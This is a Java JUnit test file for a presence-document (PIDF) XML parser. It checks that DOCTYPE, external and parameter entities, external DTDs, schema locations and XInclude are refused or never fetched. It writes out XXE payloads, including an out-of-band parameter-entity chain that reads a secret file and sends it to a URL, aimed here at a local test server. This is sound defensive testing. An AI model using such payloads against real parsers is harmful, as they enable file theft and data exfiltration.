package io.presencekit.pidf;

import static io.presencekit.pidf.HostileInputs.PIDF;
import static io.presencekit.pidf.HostileInputs.assertNotLeaked;
import static io.presencekit.pidf.HostileInputs.assertPositioned;
import static io.presencekit.pidf.HostileInputs.assertPositionedAt;
import static io.presencekit.pidf.HostileInputs.assertRejected;
import static io.presencekit.pidf.HostileInputs.presenceWithTuple;
import static io.presencekit.pidf.HostileInputs.utf8;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.sun.net.httpserver.HttpServer;
import io.presencekit.error.DocumentParseException;
import io.presencekit.error.DocumentParseException.Reason;
import io.presencekit.xml.ExtensionElement;
import io.presencekit.xml.GenericElement;
import java.io.IOException;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;
import javax.xml.namespace.QName;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * XXE and DOCTYPE: whatever a document declares, nothing is read from disk or fetched over the
 * network, and any DOCTYPE is refused as {@link Reason#FORBIDDEN_CONSTRUCT}. A local file holds a
 * secret marker and a local HTTP server serves it and counts requests; the marker must never
 * reach an exception or a parsed document, and the server must see no request.
 */
class ExternalResourceRejectionTest {
    private final String secret = "PK-SECRET-" + UUID.randomUUID();
    private final List<String> requests = new CopyOnWriteArrayList<>();
    private HttpServer server;
    private String secretFileUri;
    private String base;

    @BeforeEach
    void startServerAndWriteSecret(@TempDir Path dir) throws IOException {
        Path file = dir.resolve("secret.txt");
        Files.writeString(file, secret, StandardCharsets.UTF_8);
        secretFileUri = file.toUri().toString();
        server = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
        server.createContext("/", exchange -> {
            requests.add(exchange.getRequestMethod() + " " + exchange.getRequestURI());
            // if it were ever fetched, this would try to pull the file in and send it back
            byte[] body = utf8("<!ENTITY % leak SYSTEM \"" + secretFileUri + "\">" + secret);
            exchange.sendResponseHeaders(200, body.length);
            try (OutputStream out = exchange.getResponseBody()) {
                out.write(body);
            }
        });
        server.start();
        base = "http://127.0.0.1:" + server.getAddress().getPort();
    }

    @AfterEach
    void stopServer() {
        server.stop(0);
    }

    private DocumentParseException assertForbidden(String document) {
        DocumentParseException e = assertRejected(Reason.FORBIDDEN_CONSTRUCT, document);
        assertPositioned(e);
        assertNotLeaked(secret, e);
        assertEquals(List.of(), requests, "requests made to the local server");
        return e;
    }

    private static String withDoctype(String doctype, String presenceContent) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n" + doctype + "\n"
                + "<presence xmlns=\"" + PIDF + "\" entity=\"pres:someone@example.com\">" + presenceContent
                + "</presence>";
    }

    @Test
    void externalEntityToAFileIsRefusedWithoutReadingTheFile() {
        DocumentParseException e = assertForbidden(withDoctype(
                "<!DOCTYPE presence [<!ENTITY xxe SYSTEM \"" + secretFileUri + "\">]>", "<note>&xxe;</note>"));
        assertPositionedAt(2, 1, e);
    }

    @Test
    void externalEntityToAFileInAnAttributeIsRefused() {
        assertForbidden("<?xml version=\"1.0\"?>\n<!DOCTYPE presence [<!ENTITY xxe SYSTEM \"" + secretFileUri
                + "\">]>\n<presence xmlns=\"" + PIDF + "\" entity=\"&xxe;\"/>");
    }

    @Test
    void externalEntityOverHttpIsNeverFetched() {
        assertForbidden(withDoctype("<!DOCTYPE presence [<!ENTITY xxe SYSTEM \"" + base + "/entity\">]>",
                "<note>&xxe;</note>"));
    }

    @Test
    void parameterEntityIsNeverExpandedNorFetched() {
        assertForbidden(withDoctype("<!DOCTYPE presence [<!ENTITY % remote SYSTEM \"" + base + "/p.dtd\"> %remote;]>",
                "<note>x</note>"));
    }

    @Test
    void parameterEntityOutOfBandExfiltrationIsRefused() {
        assertForbidden(withDoctype("<!DOCTYPE presence [\n"
                + "  <!ENTITY % file SYSTEM \"" + secretFileUri + "\">\n"
                + "  <!ENTITY % dtd SYSTEM \"" + base + "/evil.dtd\">\n"
                + "  %dtd;\n"
                + "  <!ENTITY % send \"<!ENTITY &#x25; out SYSTEM '" + base + "/?d=%file;'>\">\n"
                + "  %send;\n"
                + "]>", "<note>x</note>"));
    }

    @Test
    void externalDtdIsNeverFetched() {
        DocumentParseException e = assertForbidden(
                withDoctype("<!DOCTYPE presence SYSTEM \"" + base + "/x.dtd\">", "<note>x</note>"));
        assertPositionedAt(2, 1, e);
    }

    @Test
    void externalDtdWithPublicIdIsNeverFetched() {
        assertForbidden(withDoctype("<!DOCTYPE presence PUBLIC \"-//Example//DTD PIDF//EN\" \"" + base + "/x.dtd\">",
                "<note>x</note>"));
    }

    @Test
    void plainDoctypeIsRefused() {
        DocumentParseException e = assertForbidden(withDoctype("<!DOCTYPE presence>", ""));
        assertPositionedAt(2, 1, e);
    }

    @Test
    void doctypeAfterCommentsAndProcessingInstructionsIsRefused() {
        assertForbidden("<!-- hello --><?pk x?>\n<!DOCTYPE presence>\n<presence xmlns=\"" + PIDF
                + "\" entity=\"pres:a@example.com\"/>");
    }

    @Test
    void doctypeAfterTheRootIsRefused() {
        assertForbidden("<presence xmlns=\"" + PIDF + "\" entity=\"pres:a@example.com\"/>\n<!DOCTYPE presence>");
    }

    @Test
    void internalEntityDeclarationIsRefused() {
        assertForbidden(withDoctype("<!DOCTYPE presence [<!ENTITY greeting \"hello\">]>", "<note>&greeting;</note>"));
    }

    @Test
    void undeclaredEntityReferenceIsRefusedWhereItStands() {
        // the HTML habit: &nbsp; is not an XML entity
        DocumentParseException e = assertForbidden(presenceWithTuple("<note>a&nbsp;b</note>"));
        assertEquals(3, e.line(), e.getMessage());
        assertTrue(e.getMessage().contains("'&nbsp;'"), e.getMessage());
    }

    @Test
    void predefinedEntitiesAndCharacterReferencesAreStillRead() {
        PresenceDocument d = PidfCodec.standard()
                .read(utf8(presenceWithTuple("<note>&lt;&amp;&gt;&quot;&apos;&#65;&#x263A;</note>")));
        assertEquals("<&>\"'A\u263A", d.tuples().get(0).notes().get(0).text());
    }

    @Test
    void schemaLocationAndNamespaceUrlsAreNeverFetched() {
        String document = "<presence xmlns=\"" + PIDF + "\" xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\"\n"
                + "    xmlns:x=\"" + base + "/ns\" entity=\"pres:a@example.com\"\n"
                + "    xsi:schemaLocation=\"" + PIDF + " " + base + "/pidf.xsd\">"
                + HostileInputs.tuple("t1", "<x:thing xsi:schemaLocation=\"" + base + "/ns " + base + "/x.xsd\"/>")
                + "</presence>";
        PresenceDocument d = PidfCodec.standard().read(utf8(document));
        assertEquals(1, d.tuples().get(0).extensions().size());
        assertEquals(List.of(), requests, "requests made to the local server");
    }

    @Test
    void xincludeIsKeptAsAnElementNotFollowed() {
        String xi = "http://www.w3.org/2001/XInclude";
        PresenceDocument d = PidfCodec.standard().read(utf8(presenceWithTuple(
                "<xi:include xmlns:xi=\"" + xi + "\" href=\"" + secretFileUri + "\" parse=\"text\"/>"
                        + "<xi:include xmlns:xi=\"" + xi + "\" href=\"" + base + "/inc\" parse=\"text\"/>")));
        List<ExtensionElement> extensions = d.tuples().get(0).extensions();
        assertEquals(2, extensions.size());
        GenericElement include = (GenericElement) extensions.get(0);
        assertEquals(new QName(xi, "include"), include.qname());
        assertEquals(secretFileUri, include.attribute(new QName("href")));
        assertFalse(d.toString().contains(secret), "secret in the parsed document");
        assertFalse(new String(PidfCodec.standard().write(d), StandardCharsets.UTF_8).contains(secret),
                "secret in the written document");
        assertEquals(List.of(), requests, "requests made to the local server");
    }
}
